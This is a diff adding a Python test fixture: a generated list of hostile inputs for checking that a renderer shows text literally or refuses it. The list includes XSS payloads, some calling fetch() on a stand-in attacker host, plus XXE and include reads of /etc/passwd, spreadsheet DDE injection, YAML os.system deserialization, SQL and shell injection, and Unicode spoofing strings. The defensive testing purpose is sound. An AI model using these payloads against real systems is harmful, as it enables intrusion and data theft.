@@ -1,0 +1,39 @@
+"""At least 200 texts that somebody might hope are run, fetched or read as markup: shown as written, or refused."""
+
+_URL = "http://angriber.example/x"
+_SCRIPTS = ["alert(1)", "document.title='ramt'", f"fetch('{_URL}')", f"location='{_URL}'"]
+_WRAPPED = [
+    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>", '<img src="x" onerror="{}">',
+    "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
+    "<a href=javascript:{}>x</a>", "[x](javascript:{})", "![x](javascript:{})", "<details open ontoggle={}>",
+    "\"><script>{}</script>", "'><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
+    "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "`<script>{}</script>`{{=html}}",
+    "<math><mtext><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
+    "{{{{< raw {} >}}}}", "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "<%= {} %>", "#{{{}}}", "```{{python}}\n{}\n```",
+]  # fmt: skip
+_FETCHED = [
+    "<img src={}>", "<link rel=stylesheet href={}>", "<script src={}></script>", "<iframe src={}></iframe>",
+    "<object data={}></object>", "<embed src={}>", "<meta http-equiv=refresh content='0;url={}'>", "<base href={}>",
+    "<video src={}>", "<style>@import '{}'</style>", "<p style='background:url({})'>", "![x]({})", "[![x]({})](y)",
+    "<form action={}><input autofocus onfocus=submit()>", "[x]: {}", "<svg><image href={}></svg>", "@import url({});",
+    "#image(\"{}\")", "\\includegraphics{{{}}}", "{{{{< include {} >}}}}", "{{{{< embed {} >}}}}", "{{{{< video {} >}}}}",
+]  # fmt: skip
+_MARKUP = [
+    "# Overskrift", "- punkt", "1. punkt", "8. marts", "*a* _b_ **c** ~~d~~", "a | b", "| a | b |\n|---|---|", "---",
+    "::: {.warning}", ":::", "> citat", "    kode", "`kode`", "~~~", "```", "$x^2$", "$$x$$", "[^1]", "[@kilde]", "@fig-1",
+    "{#id .klasse}", "<b>fed</b>", "<!-- skjult -->", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "<?xml version='1.0'?>", "&amp; &nbsp; &copy;", "\\", "\\newpage", "\\input{/etc/passwd}", "#include \"/etc/passwd\"",
+    "#panic()", "#eval(\"1\")", "#read(\"/etc/passwd\")", "// kommentar", "/* kommentar */", "= Titel", "== Titel", "+ punkt",
+    "/ begreb: x", "~", "a~b", "<label>", "@ref", "#", "##", "$", "_", "*", "`", "'", '"', "[", "]", "{", "}", "<", ">",
+    "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://angriber.example\")", "=cmd|'/C calc'!A0", "\t=1", "%0A=1",
+    "../../etc/passwd", "..\\..\\svar", "/etc/passwd", "C:\\svar", "file:///etc/passwd", "!!python/object/apply:os.system",
+    "!!binary x", "&anker *anker", "? nøgle", "- - -", "no", "Norge: no", "null", "~: x", "%YAML 1.2", "--- a", "...",
+    "\u202eesrev", "\u2066a\u2069", "\u200bskjult", "a\u00adb", "\ufeffa", "Z͑ͫa̴l͖g̡o", "🙂", "𝔘𝔫𝔦", "\u0627\u0644", "ﬁ",
+    "' OR 1=1 --", "; DROP TABLE svar", "$(touch x)", "`touch x`", "| touch x", "%s%n", "{0}", "{x!r}", "\\x00", "\\u0000",
+]  # fmt: skip
+
+HOSTILE = [
+    *(wrapped.format(script) for wrapped in _WRAPPED for script in _SCRIPTS),
+    *(fetched.format(_URL) for fetched in _FETCHED),
+    *_MARKUP,
+]
